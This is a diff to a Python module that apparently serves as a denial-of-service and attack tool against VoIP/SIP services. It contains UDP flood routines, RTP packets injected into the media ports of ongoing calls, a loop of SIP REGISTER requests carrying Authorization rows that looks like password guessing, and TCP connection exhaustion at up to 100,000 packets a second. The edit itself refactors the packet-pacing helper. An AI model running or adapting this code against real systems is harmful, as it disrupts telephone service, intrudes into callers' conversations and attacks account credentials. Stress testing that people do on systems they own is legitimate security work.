@@ -25,6 +25,7 @@ Make = Callable[[Address, int], bytes]
 Attack = Callable[[Address, int, float, str], tuple[int, int]]  # target, rate, seconds, source ⇒ sent, answered
 
 TICK = 0.005  # seconds between bursts
+AT_MOST_LATE = 0.05  # seconds of packets in one burst, after somebody else had the processor
 MOST = 100_000  # packets, or connections, a second
 AT_ONCE = 1_000  # connections held
 PORTS = 200  # that RTP is sent to: of a hundred calls
@@ -127,7 +128,7 @@ def _flood(make: Make) -> Attack:
         sent = heard = 0
         with _socket(socket.SOCK_DGRAM, to, source) as sock:
             sock.connect(to)
-            for due in _paced(rate, seconds):
+            for due in paced(rate, seconds):
                 for _ in range(due):
                     with suppress(OSError):  # the answer to an earlier one, or a full buffer
                         sock.send(make(to, sent))
@@ -144,7 +145,7 @@ def _speech(to: Address, rate: int, seconds: float, source: str) -> tuple[int, i
     """RTP to the media port that is the target and to the next ones of calls: into whatever call is there."""
     sent = heard = 0
     with _socket(socket.SOCK_DGRAM, to, source) as sock:
-        for due in _paced(rate, seconds):
+        for due in paced(rate, seconds):
             for _ in range(due):
                 packet = struct.pack("!BBHII", 0x80, 8, sent & 0xFFFF, 160 * sent & 0xFFFFFFFF, 0x5EED) + b"\xd5" * 160
                 with suppress(OSError):
@@ -163,7 +164,7 @@ def _crack(to: Address, rate: int, seconds: float, source: str) -> tuple[int, in
     with _socket(socket.SOCK_DGRAM, to, source) as sock:
         sock.connect(to)
         sock.settimeout(0.2)
-        for due in _paced(rate, seconds):
+        for due in paced(rate, seconds):
             for _ in range(due):
                 with suppress(OSError):
                     sock.send(_request("REGISTER", to, "UDP", sent, *([f"Authorization: {rows}"] if rows else [])))
@@ -187,7 +188,7 @@ def _connections(first: bytes, hold: bool) -> Attack:
     def attack(to: Address, rate: int, seconds: float, source: str) -> tuple[int, int]:
         begun, held = 0, []
         try:
-            for due in _paced(rate, seconds):
+            for due in paced(rate, seconds):
                 for _ in range(due):
                     sock = _socket(socket.SOCK_STREAM, to, source)
                     sock.setblocking(False)
@@ -217,12 +218,12 @@ def _stands(sock: socket.socket) -> bool:
         return False
 
 
-def _paced(rate: int, seconds: float) -> Iterator[int]:
-    """How many are due, until the time is over."""
+def paced(rate: int, seconds: float) -> Iterator[int]:
+    """How many are due, until the time is over. Whoever cannot keep up sends what it can."""
     begun = time.monotonic()
-    done = 0
+    done, most = 0, max(1, int(rate * AT_MOST_LATE))
     while (now := time.monotonic() - begun) < seconds:
-        due = min(int(now * rate), done + rate) - done
+        due = min(int(now * rate) - done, most)
         done += due
         yield due
         time.sleep(TICK)
